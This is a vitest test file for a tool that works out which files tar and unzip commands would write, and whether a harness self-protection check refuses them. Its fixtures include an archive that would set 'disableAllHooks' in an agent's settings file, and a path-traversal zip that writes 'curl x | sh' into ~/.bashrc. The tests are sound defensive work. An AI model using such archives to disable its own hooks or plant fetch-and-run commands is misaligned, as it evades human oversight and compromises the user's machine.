// An extraction writes each file its archive holds (src/facts/archive-members.ts): archives made
// here with the system's tar and by hand (zip), then read as `tar -x` / `unzip` would write them.
// Self-protection refuses an archive that would create a protected file; the work-loss fact names
// a file with work it would overwrite. Each failed before the archive was read (only its folder was).
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, realpathSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { archiveMembers, memberLandings } from "../../src/facts/archive-members.ts";
import { deriveCommandFacts } from "../../src/facts/index.ts";
import { selfProtectionBlock } from "../../src/protect/index.ts";

const root = realpathSync(mkdtempSync(join(tmpdir(), "hookit-archives-")));
const home = join(root, "home");
const project = join(root, "project");
const made = join(root, "made");
const env = { HOME: home, PATH: process.env.PATH };
for (const dir of [home, join(project, "src"), join(made, ".claude"), join(made, "src")]) mkdirSync(dir, { recursive: true });

const git = (...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: project, stdio: "ignore" });
writeFileSync(join(project, "src", "a.ts"), "committed\n");
git("init", "-q");
git("add", ".");
git("commit", "-q", "-m", "first");
writeFileSync(join(project, "src", "a.ts"), "work not committed\n");

writeFileSync(join(made, ".claude", "settings.local.json"), '{"disableAllHooks":true}');
writeFileSync(join(made, "src", "a.ts"), "from the archive\n");
const long = `${"deep/".repeat(30)}name.txt`;
mkdirSync(join(made, long, ".."), { recursive: true });
writeFileSync(join(made, long), "x");
const tarOf = (name: string, ...members: string[]) => {
  execFileSync("tar", ["-C", made, "-cf", join(root, name), ...members]);
  return join(root, name);
};
const settingsTar = tarOf("settings.tar", ".claude");
const workTar = tarOf("work.tar", "src/a.ts");
const longTar = tarOf("long.tar", long);
const gzipped = join(root, "settings.tgz");
writeFileSync(gzipped, gzipSync(execFileSync("tar", ["-C", made, "-cf", "-", ".claude"])));

/** A zip of stored (uncompressed) files, written by hand: local headers, then the central directory. */
function zipOf(name: string, files: Record<string, string>): string {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [path, text] of Object.entries(files)) {
    const nameBytes = Buffer.from(path);
    const data = Buffer.from(text);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, data);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(nameBytes.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  writeFileSync(join(root, name), Buffer.concat([...locals, directory, end]));
  return join(root, name);
}
const settingsZip = zipOf("settings.zip", { ".claude/": "", ".claude/settings.local.json": "{}", "README.md": "x" });
const escapeZip = zipOf("escape.zip", { "../../home/.bashrc": "curl x | sh" });

const facts = (command: string) => deriveCommandFacts(command, { cwd: project, projectDir: project, env, discards: true });
const writes = (command: string) =>
  facts(command)
    .paths.filter((p) => p.effect === "write")
    .map((p) => p.path);
const refused = (command: string) =>
  selfProtectionBlock([{ event: "tool_call", toolName: "bash", toolCallId: "c", input: { command } }], {
    cwd: project,
    projectDir: project,
    env,
  });

describe("an archive's members", () => {
  test("tar (GNU long names too), gzip-compressed tar and zip are read; anything else is not", () => {
    expect(archiveMembers(settingsTar)).toEqual([".claude/", ".claude/settings.local.json"]);
    expect(archiveMembers(longTar)).toEqual([long]);
    expect(archiveMembers(gzipped)).toEqual([".claude/", ".claude/settings.local.json"]);
    expect(archiveMembers(settingsZip)).toEqual([".claude/", ".claude/settings.local.json", "README.md"]);
    writeFileSync(join(root, "plain.txt"), "not an archive at all, but longer than one tar block? ".repeat(20));
    expect(archiveMembers(join(root, "plain.txt"))).toBeUndefined();
    expect(archiveMembers(join(root, "no-such.tar"))).toBeUndefined();
  });

  test("a plain tar of any size is read header by header: a large file before a protected one does not hide it", () => {
    const big = join(root, "padding.bin");
    writeFileSync(big, "");
    truncateSync(big, 70 * 1024 * 1024); // a sparse file: 70 MB of zeros for tar to write out
    const file = join(root, "large.tar");
    execFileSync("tar", ["-cf", file, "-C", root, "padding.bin", "-C", made, ".claude/settings.local.json"]);
    expect(archiveMembers(file)).toEqual(["padding.bin", ".claude/settings.local.json"]);
    expect(refused(`tar -xf ${file}`)).toBeDefined();
  });

  test("where they land: folders left out, a leading / dropped, --strip-components", () => {
    expect(memberLandings(["a/", "a/b.txt", "/etc/x", "./c"], "/p/")).toEqual(["/p/a/b.txt", "/p/etc/x", "/p/c"]);
    expect(memberLandings(["top/a/b.txt", "top"], "/p", 1)).toEqual(["/p/a/b.txt"]);
  });
});

describe("an extraction writes each file where it lands", () => {
  test.each([
    [`tar -xf ${settingsTar}`, join(project, ".claude", "settings.local.json")],
    [`tar xzf ${gzipped}`, join(project, ".claude", "settings.local.json")],
    [`unzip -o ${settingsZip}`, join(project, ".claude", "settings.local.json")],
    [`mkdir x && tar -xf ${settingsTar} -C x`, join(project, "x", ".claude", "settings.local.json")],
    [`bsdtar -xf ${settingsTar}`, join(project, ".claude", "settings.local.json")],
    [`unzip ${escapeZip} -d src`, join(home, ".bashrc")],
  ])("%s", (command, written) => {
    expect(writes(command)).toContain(written);
  });

  test("self-protection refuses one that creates a protected file; other members pass", () => {
    expect(refused(`tar -xf ${settingsTar}`)).toBeDefined();
    expect(refused(`unzip -o ${settingsZip}`)).toBeDefined();
    expect(refused(`unzip -o ${settingsZip} README.md`)).toBeUndefined();
    expect(refused(`tar -xf ${workTar}`)).toBeUndefined();
  });

  test("the work-loss fact names a file with work it overwrites", () => {
    expect(facts(`tar -xf ${workTar}`).discards).toEqual([join(project, "src", "a.ts")]);
    expect(facts(`tar -xf ${workTar} -C /tmp`).discards ?? []).toEqual([]);
    expect(facts(`tar -xf ${settingsTar}`).discards ?? []).toEqual([]);
  });
});
